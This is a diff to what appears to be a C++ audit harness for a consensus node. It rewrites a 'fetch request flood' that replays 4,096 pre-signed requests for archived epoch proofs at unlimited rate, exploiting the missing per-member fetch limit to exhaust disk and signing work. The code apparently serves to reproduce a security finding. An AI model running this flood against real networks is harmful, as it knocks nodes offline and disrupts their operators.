@@ -167,18 +167,31 @@ int fetch_reply_flood(Member& m, const Common& opt) {
     return 0;
 }
 
-// Finding 3: fetch requests for committed-epoch proofs, half of them old enough to be
-// answered from the on-disk archive (a RocksDB scan and a signature on the event loop).
+// Finding 3: fetch requests for committed-epoch proofs, most of them old enough to be
+// answered from the on-disk archive (a RocksDB scan and a signature on the event
+// loop). 4,096 distinct envelopes are signed once and re-sent in a cycle: their
+// signatures then hit the verification cache, but every answer is built and signed
+// again (nothing limits fetches per member). --rate 0 sends as fast as the sockets
+// take them.
 int fetch_request_flood(Member& m, const Common& opt) {
-    Epoch top = m.applied();
-    Pacer pace(opt.rate > 0 ? opt.rate : 300, opt.seconds, opt.count);
-    while (pace.next()) {
-        if (pace.done() % 500 == 0) top = std::max(top, m.applied());
-        if (top < 2) continue;
+    const Epoch top = m.applied();
+    if (top < 2) {
+        report("attack=fetch-request-flood error=no-committed-epochs");
+        return 1;
+    }
+    std::vector<Bytes> envs;
+    for (int k = 0; k < 4096; ++k) {
         const Epoch e = 1 + m.rng() % (top - 1);
         FetchRequest fr{FetchType::EpochProof, 0, Digest{}};
-        if (opt.variant == "blocks") fr = FetchRequest{FetchType::Aba, 0, Digest{}};
-        m.p2p(m.seal(e, Kind::FetchRequest, encode(fr)));
+        if (opt.variant == "aba") fr = FetchRequest{FetchType::Aba, 0, Digest{}};
+        envs.push_back(m.seal(e, Kind::FetchRequest, encode(fr)));
+    }
+    Pacer pace(opt.rate, opt.seconds, opt.count);
+    while (pace.next()) {
+        const Bytes& env = envs[pace.done() % envs.size()];
+        bool full = false;
+        for (NodeId t : m.targets) full = !m.link->send_to(t, env) || full;
+        if (full) std::this_thread::sleep_for(std::chrono::milliseconds(1));
     }
     report("attack=fetch-request-flood applied=" + std::to_string(top) + " " + m.totals());
     return 0;
